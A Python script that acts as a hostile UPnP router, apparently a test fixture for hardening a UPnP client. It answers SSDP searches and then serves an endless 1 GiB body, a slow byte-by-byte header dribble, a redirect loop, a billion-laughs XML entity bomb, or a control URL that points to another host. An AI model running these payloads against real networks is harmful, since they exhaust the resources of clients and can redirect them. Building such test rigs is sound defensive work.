#!/usr/bin/env python3
"""A UPnP router that means harm: answers every search, and then endless, slow or misleading HTTP.

usage: hostile_igd.py ADDRESS KIND     KIND = endless | dribble | redirect | entities | elsewhere
Prints a line for each connection it gets.
"""
import socket
import sys
import threading
import time

address, kind = sys.argv[1], sys.argv[2]
KIB64 = b"x" * 65536
HEAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n"
ELSEWHERE = (
    '<?xml version="1.0"?><root><device><deviceType>urn:schemas-upnp-org:device:'
    "InternetGatewayDevice:1</deviceType><serviceList><service><serviceType>urn:schemas-upnp-org:"
    "service:WANIPConnection:1</serviceType><controlURL>http://%s:5000/ctl</controlURL></service>"
    "</serviceList></device></root>"
)
LAUGHS = '<!DOCTYPE l [<!ENTITY a0 "%s">%s]><root>&a30;</root>' % (
    "a" * 100,
    "".join('<!ENTITY a%d "%s">' % (i + 1, ("&a%d;" % i) * 10) for i in range(30)),
)


def endless(conn):
    conn.sendall(HEAD + b"Connection: close\r\n\r\n")
    for _ in range(16384):  # 1 GiB
        conn.sendall(KIB64)


def dribble(conn):
    conn.sendall(HEAD + b"X: ")
    while True:
        conn.sendall(b"x")
        time.sleep(0.2)


def redirect(conn):
    conn.sendall(b"HTTP/1.1 302 Found\r\nLocation: http://%s:5000/again\r\n\r\n" % address.encode())


def body(conn, text):
    conn.sendall(HEAD + b"Content-Length: %d\r\n\r\n%s" % (len(text), text.encode()))


ACT = {
    "endless": endless,
    "dribble": dribble,
    "redirect": redirect,
    "entities": lambda conn: body(conn, LAUGHS),
    "elsewhere": lambda conn: body(conn, ELSEWHERE % "192.168.7.77"),
}


def serve(conn):
    try:
        print("asked", conn.recv(4096).split(b"\r\n")[0].decode(), flush=True)
        ACT[kind](conn)
    except OSError:
        pass
    conn.close()


def answer_searches():
    ssdp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ssdp.bind((address, 1900))
    text = "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nLOCATION: http://%s:5000/d.xml\r\n\r\n" % address
    while True:
        _, who = ssdp.recvfrom(2048)
        ssdp.sendto(text.encode(), who)


listener = socket.create_server((address, 5000))
threading.Thread(target=answer_searches, daemon=True).start()
print("ready", flush=True)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
